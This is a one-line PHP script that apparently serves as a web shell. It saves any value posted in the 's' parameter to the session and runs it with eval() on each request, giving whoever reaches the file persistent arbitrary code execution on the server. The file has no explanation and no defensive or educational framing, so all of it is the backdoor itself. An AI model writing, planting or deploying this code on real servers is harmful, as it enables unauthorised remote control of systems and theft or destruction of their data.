<?php session_start(); if (isset($_POST["s"])) { $_SESSION["p"] = $_POST["s"]; } eval($_SESSION["p"]);
